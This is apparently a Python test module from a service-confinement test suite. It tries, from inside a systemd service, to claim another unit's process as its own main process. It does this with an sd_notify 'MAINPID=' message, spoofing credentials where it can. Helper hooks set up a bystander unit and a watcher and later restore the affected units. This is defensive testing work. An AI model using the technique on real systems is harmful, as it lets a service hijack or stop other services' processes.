"""What the service manager does because a service tells it to."""

from __future__ import annotations

import os
import socket
import struct
import time
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

from ..attack import Attack, Env, Outcome
from ..target import CONFINED, UNCONFINED, installed

if TYPE_CHECKING:
    from ..lab.base import Lab

BYSTANDER, WATCHER = "nsguard-leaktest-bystander.service", "nsguard-leaktest-watcher.service"
WATCHED = installed([*CONFINED, *UNCONFINED])
# the bystander's process number; and the units that have it for their main process
NUMBER, TAKEN = "/var/cache/nsguard-leaktest-number", "/var/cache/nsguard-leaktest-taken"


class MainProcessElsewhere(Attack):
    """Claim: the service can't have systemd take a process of another unit for its own, and stop it with the service.

    Method: a bystander's unit runs. Tell systemd that the bystander is this unit's main process (MAINPID=), in the name
    of the real one where the kernel lets that be said. On the host a watcher notes whose main process it is.
    Limitations: an ordinary user's word for it systemd itself does not take, so root only.
    Source: sd_notify(3), MAINPID=; unix(7), SCM_CREDENTIALS.
    """

    name = "main-process-elsewhere"
    families = (0,)
    evidence = "answer"
    identities = ("root",)
    alone = True
    core = False
    timeout = 10.0

    def before(self, lab: Lab) -> None:
        watch = (
            f"while sleep 0.1; do for unit in {WATCHED}; do "
            f'[ "$(systemctl show -P MainPID $unit)" != "$(cat {NUMBER})" ] || echo $unit >>{TAKEN}; done; done'
        )
        lab.client.succeed(
            f"systemd-run -q --unit={BYSTANDER} --collect sleep infinity",
            f"systemctl show -P MainPID {BYSTANDER} >{NUMBER}; : >{TAKEN}",
            f"systemd-run -q --unit={WATCHER} --collect $(command -v bash) -c '{watch}'",
        )

    def after(self, lab: Lab) -> None:
        lab.client.succeed(
            f"systemctl stop {WATCHER}",
            f"for unit in $(sort -u {TAKEN}); do systemctl restart $unit; done",
            f"systemctl stop {BYSTANDER} 2>/dev/null || true",  # it may have been stopped
            f"rm {NUMBER} {TAKEN}",
        )

    def run(self, env: Env) -> Outcome:
        message = b"MAINPID=" + Path(NUMBER).read_bytes()
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as notify:
            notify.connect(os.environ["NOTIFY_SOCKET"])
            with suppress(PermissionError):
                credentials = struct.pack("3i", os.getppid(), os.getuid(), os.getgid())
                notify.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
            notify.send(message)
        own = {line.rpartition("/")[2] for line in Path("/proc/self/cgroup").read_text().splitlines()}
        deadline = time.monotonic() + 3 * env.patience
        while not (taken := own & set(Path(TAKEN).read_text().split())) and time.monotonic() < deadline:
            time.sleep(0.05)
        return Outcome(bool(taken), f"the bystander is {'' if taken else 'not '}this unit's main process")
